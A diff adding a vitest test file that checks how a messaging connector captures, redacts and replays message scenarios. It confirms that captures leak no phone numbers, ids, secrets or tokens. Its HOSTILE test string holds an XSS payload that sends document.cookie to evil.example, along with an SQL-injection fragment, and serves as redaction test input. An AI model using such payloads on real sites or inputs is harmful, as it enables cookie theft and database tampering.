@@ -1,0 +1,137 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { callPortAt } from '../../src/commands/call-sandbox.ts';
+import type { ConnectorMessage } from '../../src/contract/connector/messages.ts';
+import type { MessageTrace } from '../../src/contract/connector/trace.ts';
+import { buildCapture } from '../../src/scenario/capture.ts';
+import { createRedactor } from '../../src/scenario/redact.ts';
+import { replay, type Target } from '../../src/scenario/replay.ts';
+import { readScenario, type Scenario, writeScenario } from '../../src/scenario/scenario.ts';
+import { startTestLoop, type TestLoop } from '../support/loop.ts';
+import { createLoopClient, type LoopClient } from '../support/loop-client.ts';
+
+const CONTACT = '4917012345678';
+const HOSTILE = `<img src=x onerror="fetch('//evil.example/'+document.cookie)"> Grüße 你好 👋 \u202eאבג\u0007 $connection1 $start+5 ' OR 1=1; --`;
+
+let loop: TestLoop;
+let client: LoopClient;
+let target: Target;
+beforeAll(async () => {
+  loop = await startTestLoop();
+  target = {
+    call: callPortAt(loop.loop.info().sandboxUrl),
+    settle: () => loop.loop.settle(),
+    sleep: () => loop.loop.settle(),
+  };
+});
+afterAll(() => loop.close());
+beforeEach(async () => {
+  await loop.sandbox('POST', '/reset');
+  client = createLoopClient(loop.loop.info());
+  // The connector has registered its webhook.
+  await expect
+    .poll(async () => (await loop.sandbox<{ entries: unknown[] }>('GET', '/webhooks')).entries)
+    .toHaveLength(1);
+});
+
+/** The file that a capture of a message writes. */
+async function capture(messageId: string): Promise<string> {
+  const message = await loop.connector<ConnectorMessage>('GET', `/v1/messages/${messageId}`);
+  const { entries } = await loop.connector<MessageTrace>('GET', `/v1/messages/${messageId}/trace?limit=1000`);
+  return writeScenario(buildCapture({ message, entries }, createRedactor(Buffer.from('a key'))));
+}
+
+function pathsOf({ causes }: Scenario): string[] {
+  return causes.map(({ method, path }) => `${method} ${path}`);
+}
+
+describe('a capture', () => {
+  it('repeats what a connector received of a message, copies and late ones included', async () => {
+    const connectionId = await client.qrConnection();
+    await loop.connector('POST', '/v1/messages', {
+      connectionId,
+      to: CONTACT,
+      text: HOSTILE,
+      reference: 'secret-reference',
+    });
+    await loop.loop.settle();
+    await loop.sandbox('POST', '/clock/advance', { ms: 60_000 });
+    await loop.loop.settle();
+    const late = (await client.deliveries()).find(({ messageId }) => messageId !== null) as unknown as {
+      id: string;
+    };
+    await loop.sandbox('POST', `/deliveries/${late.id}/resend`, {});
+    await loop.loop.settle();
+    const [message] = await client.messages();
+    const file = await capture(message?.id ?? '');
+    const scenario = readScenario(file);
+    expect(pathsOf(scenario).slice(0, 3)).toEqual([
+      'POST /faults',
+      expect.stringMatching(/^PUT \/contacts\/1555010\d{6}$/),
+      'POST /v1/messages',
+    ]);
+    expect(pathsOf(scenario).filter((path) => path.endsWith('/copies'))).toHaveLength(4);
+    expect((await replay(scenario, target)).differences).toEqual([]);
+  });
+
+  it('contains nothing of the phone number, the text, an id, a secret or a token', async () => {
+    const connectionId = await client.qrConnection();
+    const incoming = (await loop.sandbox('POST', `/contacts/${CONTACT}/messages`, {
+      connectionId,
+      text: HOSTILE,
+    })) as {
+      messageId: string;
+    };
+    await loop.loop.settle();
+    const file = await capture(incoming.messageId);
+    const { apiKey, connectorToken } = loop.loop.info();
+    for (const own of [
+      CONTACT,
+      connectionId,
+      incoming.messageId,
+      apiKey,
+      connectorToken ?? '',
+      'evil',
+      'cookie',
+      'onerror',
+      'Grü',
+      '你好',
+      '👋',
+      'אב',
+      'OR 1=1',
+    ]) {
+      expect(file).not.toContain(own);
+    }
+    for (let at = 0; at + 4 <= CONTACT.length; at += 1) expect(file).not.toContain(CONTACT.slice(at, at + 4));
+    expect((await replay(readScenario(file), target)).differences).toEqual([]);
+  });
+});
+
+describe('a redacted text', () => {
+  const { text, phone } = createRedactor(Buffer.from('a key'));
+
+  it('has the length and the kinds of characters of the original, and none of its letters in place', () => {
+    const redacted = text(HOSTILE);
+    expect(redacted.length).toBe(HOSTILE.length);
+    expect(Buffer.byteLength(redacted)).toBe(Buffer.byteLength(HOSTILE));
+    const kinds = (value: string) =>
+      value
+        .replace(/\p{Lu}/gu, 'A')
+        .replace(/\p{L}/gu, 'a')
+        .replace(/\d/g, '0')
+        .replace(/\p{Extended_Pictographic}/gu, '*');
+    expect(kinds(redacted).length).toBe(kinds(HOSTILE).length);
+    const chars = [...HOSTILE];
+    const same = [...redacted].filter((char, index) => char === chars[index] && /[\p{L}\p{N}]/u.test(char));
+    expect(same).toEqual([]);
+  });
+
+  it('is the same for the same original, and another one with another key', () => {
+    expect(text('Hello')).toBe(text('Hello'));
+    expect(createRedactor(Buffer.from('another')).text('Hello')).not.toBe(text('Hello'));
+  });
+
+  it('has a phone number of the same length from a range reserved for fiction', () => {
+    expect(phone(CONTACT)).toMatch(/^1555010\d{6}$/);
+    expect(phone('12345')).toMatch(/^[1-9]\d{4}$/);
+  });
+});
